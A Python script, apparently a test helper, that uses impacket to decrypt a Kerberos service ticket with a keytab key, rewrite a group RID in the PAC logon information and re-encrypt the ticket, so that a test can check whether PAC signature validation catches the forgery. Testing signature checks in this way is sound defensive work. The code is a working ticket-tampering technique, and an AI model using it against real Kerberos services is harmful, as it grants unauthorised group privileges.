"""Alters the PAC of a service ticket in a credential cache after the KDC signed
it: the logon information says the user is also in another group (RID_FROM ->
RID_TO), and nothing else changes (the PAC's signatures are left as they were).
The ticket is re-encrypted with the service's key, which the test has (its
keytab; only a holder of that key could), so that only the PAC's signature can
give the change away.

    tamper_pac.py CCACHE KEYTAB SERVICE_PRINCIPAL RID_FROM RID_TO

Uses impacket (from PyPI) for the ASN.1, the keys and the credential cache.
"""
import struct
import sys

from impacket.krb5 import constants
from impacket.krb5.asn1 import AD_IF_RELEVANT, EncTicketPart, Ticket
from impacket.krb5.ccache import CCache
from impacket.krb5.crypto import Key, _enctype_table
from impacket.krb5.keytab import Keytab
from pyasn1.codec.der import decoder, encoder

ccache_path, keytab_path, service, rid_from, rid_to = sys.argv[1:6]
rid_from, rid_to = int(rid_from), int(rid_to)

cache = CCache.loadFile(ccache_path)
cred = next(c for c in cache.credentials
            if c['server'].prettyPrint().decode().startswith(service))
ticket = decoder.decode(cred.ticket['data'], asn1Spec=Ticket())[0]
etype = int(ticket['enc-part']['etype'])
keytab = Keytab.loadFile(keytab_path)
block = keytab.getKey(service, specificEncType=etype)
assert block is not None, 'no key of the ticket\'s type in the keytab'
key = Key(etype, bytes(block['keyvalue']['data']))
cipher = _enctype_table[etype]
plain = cipher.decrypt(key, 2, bytes(ticket['enc-part']['cipher']))
part = decoder.decode(plain, asn1Spec=EncTicketPart())[0]

changed = False
for ad in part['authorization-data']:
    if int(ad['ad-type']) != 1:  # AD-IF-RELEVANT
        continue
    inner = decoder.decode(bytes(ad['ad-data']), asn1Spec=AD_IF_RELEVANT())[0]
    for el in inner:
        if int(el['ad-type']) != 128:  # AD-WIN2K-PAC
            continue
        pac = bytearray(bytes(el['ad-data']))
        count = struct.unpack_from('<I', pac, 0)[0]
        for i in range(count):
            btype, size, offset = struct.unpack_from('<IIQ', pac, 8 + 16 * i)
            if btype != 1:  # PAC_LOGON_INFO
                continue
            body = pac[offset:offset + size]
            # A GROUP_MEMBERSHIP: the RID, then SE_GROUP_MANDATORY|ENABLED...
            needle = struct.pack('<I', rid_from) + struct.pack('<I', 7)
            at = body.find(needle)
            assert at >= 0, 'the group RID is not in the logon information'
            body[at:at + 4] = struct.pack('<I', rid_to)
            pac[offset:offset + size] = body
            changed = True
        el['ad-data'] = bytes(pac)
    ad['ad-data'] = encoder.encode(inner)
assert changed, 'no PAC logon information in the ticket'

ticket['enc-part']['cipher'] = cipher.encrypt(key, 2, encoder.encode(part), None)
cred.ticket['data'] = encoder.encode(ticket)
cred.ticket['length'] = len(cred.ticket['data'])
cache.saveFile(ccache_path)
print('altered')
